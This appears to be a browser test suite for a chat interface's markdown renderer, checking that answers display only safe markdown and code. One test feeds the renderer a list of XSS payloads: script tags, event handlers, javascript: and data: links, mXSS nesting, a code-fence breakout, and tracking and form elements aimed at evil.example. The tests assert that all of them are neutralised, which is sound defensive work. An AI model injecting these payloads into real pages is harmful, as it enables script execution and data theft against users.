"""What an answer may make of the page: markdown and code, and nothing else, whatever a model writes."""

from typing import Any

import pytest
from page_driver import ask, says

pytestmark = pytest.mark.xdist_group("page")
MARKDOWN = """# Heading

A **bold** word, `code`, and a [link](https://example.org/a).

| a | b |
|---|---|
| 1 | 2<br>3 |

1. one
2. two

```python
def f(x):
    return x < 1 and "<b>"
```
"""
HOSTILE = """<script>window.hacked = 1</script>

<img src=x onerror="window.hacked = 2">
<svg onload="window.hacked = 3"><iframe src="javascript:parent.hacked = 4"></iframe>

[a link](javascript:window.hacked=5) [another](data:text/html,<script>alert(1)</script>)
[third](&#106;avascript:window.hacked=6)

![picture](https://evil.example/track.png?secret) <a href="https://evil.example" onclick="window.hacked = 7">click</a>

<style>body { display: none }</style><form action="https://evil.example"><input name=q></form>

<div class="composer" id="fake" style="position:fixed;inset:0;background:url(https://evil.example/x)">over all</div>

<math><mtext><table><mglyph><style><img src=x onerror="window.hacked = 8"></style></mglyph></table></mtext></math>

```"><img src=x onerror="window.hacked=9">
code</code></pre><img src=x onerror="window.hacked = 10">
```

<b onmouseover="window.hacked = 11">bold</b> <br onclick="window.hacked = 12">

[x]: javascript:window.hacked=13 "title"

[reference][x] <javascript:window.hacked=14>
"""
FOUND = """() => {
  const answer = document.querySelector('.answer .markdown');
  const all = [...answer.querySelectorAll('*')];
  return {
    hacked: window.hacked ?? null,
    tags: [...new Set(all.map((node) => node.localName))],
    handlers: all.flatMap((node) => node.getAttributeNames().filter((name) => name.startsWith('on') || name === 'style'
      || name === 'id')),
    links: [...answer.querySelectorAll('a')].map((link) => [link.getAttribute('href'), link.rel, link.target]),
    classes: all.map((node) => node.className).filter(Boolean),
    text: answer.textContent,
  };
}"""


def test_markdown(page: Any) -> None:
    says(page, MARKDOWN)
    ask(page, "Show me.")
    answer = page.locator(".answer .markdown")
    assert answer.get_by_role("heading", name="Heading").count() == 1
    assert answer.locator("strong").inner_text() == "bold"
    assert answer.locator("td").all_inner_texts() == ["1", "2\n3"]
    assert answer.locator("ol > li").count() == 2
    link = answer.get_by_role("link", name="link")
    assert (link.get_attribute("href"), link.get_attribute("rel")) == (
        "https://example.org/a", "noopener noreferrer nofollow")
    assert answer.locator("pre").inner_text() == 'def f(x):\n    return x < 1 and "<b>"\n'
    assert answer.locator("figcaption span").inner_text() == "python"


def test_code_is_copied(browse: Any) -> None:
    page = browse(permissions=["clipboard-read", "clipboard-write"])
    says(page, MARKDOWN)
    ask(page, "Show me.")
    page.get_by_role("button", name="Copy", exact=True).click()
    page.get_by_role("button", name="Copied").wait_for()
    assert page.evaluate("navigator.clipboard.readText()") == 'def f(x):\n    return x < 1 and "<b>"\n'
    page.get_by_role("button", name="Copy the answer").click()
    page.wait_for_function("async (text) => await navigator.clipboard.readText() === text", arg=MARKDOWN)


def test_a_hostile_answer(page: Any) -> None:
    dialogs: list[Any] = []
    page.on("dialog", lambda dialog: (dialogs.append(dialog), dialog.dismiss()))
    says(page, HOSTILE)
    ask(page, "Harm me.")
    page.locator(".answer").hover()
    page.wait_for_timeout(300)
    found = page.evaluate(FOUND)
    assert found["hacked"] is None and not dialogs
    assert set(found["tags"]) <= {"div", "p", "a", "b", "br", "strong", "figure", "figcaption", "span", "button", "pre",
                                  "code", "ul", "ol", "li"}, found["tags"]
    assert not found["handlers"]
    assert all(href is None or href.startswith(("https:", "http:", "mailto:")) for href, *_ in found["links"]), found
    assert set(found["classes"]) <= {"block", "code", "copy-code"}
    assert "<script>window.hacked = 1</script>" in found["text"], "it is shown as the text that it is"
    assert page.get_by_role("textbox", name="Your question").is_visible()


def test_the_same_of_a_question_and_a_title(page: Any) -> None:
    says(page, "No.")
    ask(page, '<img src=x onerror="window.hacked = 1">')
    assert page.evaluate("window.hacked ?? null") is None
    assert page.locator(".page img").count() == 0
    assert page.locator(".question-text").inner_text() == '<img src=x onerror="window.hacked = 1">'


def test_the_policy_is_a_second_wall(page: Any, server: str) -> None:
    """A handler that came through all the same is not run."""
    policy = page.request.get(server, headers={"Accept": "text/html"}).headers["content-security-policy"]
    assert "default-src 'self'" in policy and "unsafe" not in policy


def test_blocks_that_do_not_change_stay(page: Any) -> None:
    """So that what is selected stays selected while an answer grows."""
    says(page, "First paragraph.\n\nSecond.", "Other.")
    ask(page, "question")
    page.evaluate("document.querySelector('.answer .block').mark = 1")
    page.evaluate("""async () => {
      const { show } = await import('/page/markdown.js');
      show(document.querySelector('.answer .markdown'), 'First paragraph.\\n\\nSecond, and longer.');
    }""")
    assert page.locator(".answer .block").all_inner_texts() == ["First paragraph.", "Second, and longer."]
    assert page.evaluate("document.querySelector('.answer .block').mark") == 1
